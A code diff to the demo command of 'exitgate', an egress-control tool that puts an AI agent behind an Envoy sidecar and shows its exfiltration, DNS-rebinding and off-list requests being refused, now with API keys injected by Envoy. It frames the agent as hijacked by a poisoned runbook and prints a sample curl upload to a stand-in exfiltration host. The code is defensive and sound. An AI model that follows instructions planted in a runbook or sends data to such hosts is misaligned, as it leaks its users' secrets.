@@ -2,8 +2,10 @@
  * `exitgate demo` (SPEC §3, README): the whole story on one machine. Starts a DNS server for the
  * demo's `.test` names, loopback upstreams, the control plane and a real Envoy sidecar, then plays
  * a compromised agent: its allowed destinations work, exfiltration, an unlisted port, an IP
- * literal and a DNS-rebinding attempt at the control plane's admin API are refused, and a live
- * policy edit revokes a destination without restarting Envoy. Each verdict is what Envoy did;
+ * literal and a DNS-rebinding attempt at the control plane's admin API are refused, the API key
+ * its paging tool needs is injected by Envoy (the agent never holds it, cannot spend it on other
+ * methods or paths, and cannot send it elsewhere), and a live policy edit revokes a destination
+ * without restarting Envoy. Each verdict is what Envoy did;
  * each rule is what `exitgate check` computes; any disagreement is flagged.
  *
  * Everything listens on loopback and the guard exempts only the upstreams' /32 addresses, so
@@ -11,6 +13,7 @@
  * expected. Without --once it keeps running for hands-on use until Ctrl-C.
  */
 import { execFile } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
 import { promises as fs } from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
@@ -22,11 +25,14 @@ import { createLogger, silentLogger } from '../util/logger';
 import { formatNodeId } from '../identity/node-id';
 import { loadPolicyDir } from '../policy/load';
 import { buildAgentIr } from '../ir/build-ir';
-import { formatRef } from '../ir/agent-ir';
+import { formatRef, type AccessIr } from '../ir/agent-ir';
 import { formatHostPattern } from '../policy/host-pattern';
 import type { Metrics } from '../util/metrics';
 import { UsageError } from './errors';
 import {
+  AGENT_OWN_AUTH,
+  CREDENTIAL_RULE,
+  DEMO_CREDENTIAL,
   DEMO_NODE,
   POLICY_FILE_NAME,
   REVOKED,
@@ -37,7 +43,7 @@ import {
   policyYaml,
   type DemoPorts,
 } from '../demo/demo-scenario';
-import { attemptLabel, countAccepted, runAttempt, timeLiveRevocation, writeAtomic, type AttemptResult, type JudgeContext } from '../demo/demo-run';
+import { attemptLabel, countAccepted, runAttempt, secretPreview, timeLiveRevocation, writeAtomic, type AttemptResult, type JudgeContext } from '../demo/demo-run';
 import { AttemptTable, FAIL, PASS, colorWanted, makeStyle } from '../demo/demo-render';
 
 class Interrupted extends Error {}
@@ -71,6 +77,38 @@ function pushDelta(before: Map<string, number>, after: Map<string, number>): str
   return parts.length > 0 ? parts.join(', ') : 'nothing';
 }
 
+/** A value the demo can put in a header as is: printable ASCII, no spaces, not trivially short. */
+const TOKEN_SHAPE = /^[!-~]{16,512}$/;
+
+/**
+ * The demo's PagerDuty key: the value already in EXITGATE_DEMO_PAGERDUTY_TOKEN (so a test can
+ * know it), else a fresh random one put there for this run. The control plane, running in this
+ * process, reads it from process.env like any `source: {env: ...}` credential.
+ */
+function demoSecret(): { value: string; generated: boolean } {
+  const preset = process.env[DEMO_CREDENTIAL.env];
+  if (preset !== undefined && preset !== '') {
+    if (!TOKEN_SHAPE.test(preset)) throw new UsageError(`${DEMO_CREDENTIAL.env} must be 16 to 512 printable ASCII characters without spaces (or unset, for a random key)`);
+    return { value: preset, generated: false };
+  }
+  const value = randomBytes(24).toString('base64url');
+  process.env[DEMO_CREDENTIAL.env] = value;
+  return { value, generated: true };
+}
+
+/** `tls: originate, POST /v2/enqueue only, injects pagerduty-key` for an L7 rule; '' for a plain one. */
+function accessText(access: AccessIr | undefined): string {
+  if (!access || (access.connect && access.upstream === 'plain' && !access.methods && !access.paths && !access.credential)) return '';
+  const parts: string[] = [];
+  if (access.upstream === 'tls') parts.push('plain HTTP in, Envoy originates TLS');
+  if (access.methods || access.paths) {
+    const paths = access.paths?.map((p) => ('exact' in p ? p.exact : `${p.prefix}*`)).join(', ');
+    parts.push(`${access.methods?.join('/') ?? 'any method'} ${paths ?? 'any path'} only`);
+  }
+  if (access.credential) parts.push(`Envoy injects ${access.credential}`);
+  return parts.join('; ');
+}
+
 async function waitUntilAllowed(proxy: { host: string; port: number }, target: string, timeoutMs: number, interrupted: () => boolean): Promise<void> {
   const deadline = Date.now() + timeoutMs;
   for (;;) {
@@ -91,6 +129,8 @@ export async function demo(flags: { once?: boolean }): Promise<number> {
   const verbose = process.env.EXITGATE_DEMO_VERBOSE === '1';
   // Verbose logs go to stderr so stdout stays the story.
   const log = verbose ? createLogger({ level: 'info', destination: pino.destination(2) }) : silentLogger();
+  // Before the control plane starts: it reads the credential from its (this process's) environment.
+  const secret = demoSecret();
 
   // Ctrl-C (or SIGTERM) at any point: stop what is running, clean up, exit. A second one exits
   // at once; Envoy children are SIGKILLed on process exit (envoy/process.ts).
@@ -127,7 +167,8 @@ export async function demo(flags: { once?: boolean }): Promise<number> {
     out(s.bold('exitgate demo: an AI agent behind an Envoy sidecar it cannot talk its way past'));
     out();
     out(`acme's on-call assistant has just read a poisoned runbook and now follows the attacker's`);
-    out('instructions. Its only way out is its sidecar, driven by the exitgate control plane.');
+    out('instructions. Its only way out is its sidecar, driven by the exitgate control plane, and');
+    out('the secrets its tools need are injected by Envoy: the agent has nothing to steal.');
     out();
     out(s.dim('starting a DNS server for .test names, a demo CA, upstreams, the control plane and Envoy...'));
 
@@ -156,22 +197,26 @@ export async function demo(flags: { once?: boolean }): Promise<number> {
     out(`  ${s.bold('upstreams    ')}  TLS ${TLS_UPSTREAM_IP}:${ports.tls} (certificate from the demo CA), plain HTTP ${HTTP_UPSTREAM_IP}:${ports.http}`);
     out(`  ${s.bold('guard        ')}  exempts only ${TLS_UPSTREAM_IP}/32 and ${HTTP_UPSTREAM_IP}/32; nothing here can leave the machine`);
     out(`  ${s.bold('policy       ')}  ${policyFile} (watched: edits apply live)`);
+    out(
+      `  ${s.bold('secret       ')}  ${DEMO_CREDENTIAL.name} = ${secretPreview(secret.value)} (${secret.generated ? 'random, for this run' : `from ${DEMO_CREDENTIAL.env}`}): held by the control plane and Envoy, never the agent`,
+    );
     out();
     out(s.bold(`Allowlist of ${DEMO_NODE.tenant}/${DEMO_NODE.agent}:`));
     const set = await loadPolicyDir(world.policiesDir);
     if (!set.ok) throw new Error('the demo policy did not load');
     const ir = buildAgentIr(set.value, DEMO_NODE.tenant, DEMO_NODE.agent);
-    const byRule = new Map<string, { hosts: string[]; ports: number[] }>();
+    const byRule = new Map<string, { hosts: string[]; ports: number[]; access?: AccessIr }>();
     for (const a of ir.allows) {
       const key = formatRef(a.ref);
-      const entry = byRule.get(key) ?? { hosts: [], ports: a.ports };
+      const entry = byRule.get(key) ?? { hosts: [], ports: a.ports, ...(a.access ? { access: a.access } : {}) };
       entry.hosts.push(formatHostPattern(a.pattern));
       byRule.set(key, entry);
     }
     const refWidth = Math.max(...[...byRule.keys()].map((k) => k.length));
-    for (const [ref, { hosts, ports: rulePorts }] of byRule) {
+    for (const [ref, { hosts, ports: rulePorts, access }] of byRule) {
       const why = rulePorts.includes(ports.admin) ? s.dim("  (the admin API's port: bait for the rebinding attempt)") : '';
-      out(`  ${ref.padEnd(refWidth)}  ${hosts.join(', ')}  port ${rulePorts.join(', ')}${why}`);
+      const l7 = accessText(access);
+      out(`  ${ref.padEnd(refWidth)}  ${hosts.join(', ')}  port ${rulePorts.join(', ')}${l7 ? `  (${l7})` : ''}${why}`);
     }
     out('  everything else: denied');
     out();
@@ -184,6 +229,8 @@ export async function demo(flags: { once?: boolean }): Promise<number> {
       node: DEMO_NODE,
       dns: world.dns,
       admin: { host: adminHost, port: ports.admin, accepted: () => admin.count },
+      upstreams: [world.tlsUpstream, world.httpUpstream],
+      secrets: new Map([[DEMO_CREDENTIAL.name, secret.value]]),
     };
     const first = initialAttempts(ports);
     const second = afterRevokeAttempts(ports);
@@ -262,6 +309,10 @@ export async function demo(flags: { once?: boolean }): Promise<number> {
       out(`  curl -x ${proxyUrl} http://status.internal-tools.test:${ports.http}/health`);
       out(`  curl --cacert ${ca} -x ${proxyUrl} https://paste.exfil.test:${ports.tls}/upload     ${s.dim('# refused: CONNECT 403')}`);
       out(s.dim(`  (the upstreams' certificate comes from the demo CA: without --cacert, curl rightly refuses it)`));
+      out(
+        `  curl -x ${proxyUrl} -X ${CREDENTIAL_RULE.method} -H '${DEMO_CREDENTIAL.header}: ${AGENT_OWN_AUTH}' -d '{}' http://${CREDENTIAL_RULE.host}${CREDENTIAL_RULE.path}     ${s.dim('# Envoy swaps in the key')}`,
+      );
+      out(s.dim(`  (this stand-in upstream echoes the request headers, key included; a real API would not)`));
       out(`  ${cli} check --policies ${world.policiesDir} --node ${formatNodeId(DEMO_NODE)} https://events.pagerduty.test:${ports.tls}/`);
       out(`  ${cli} status --admin 127.0.0.1:${ports.admin}`);
       out(`  \${EDITOR:-vi} ${policyFile}     ${s.dim(`# e.g. restore ${REVOKED.policy}/${REVOKED.rule}: applies live`)}`);
@@ -281,6 +332,7 @@ export async function demo(flags: { once?: boolean }): Promise<number> {
       await world.stop();
     }
     if (workDir) await fs.rm(workDir, { recursive: true, force: true });
+    if (secret.generated) delete process.env[DEMO_CREDENTIAL.env];
     process.off('SIGINT', onSignal);
     process.off('SIGTERM', onSignal);
     if (world || workDir) {
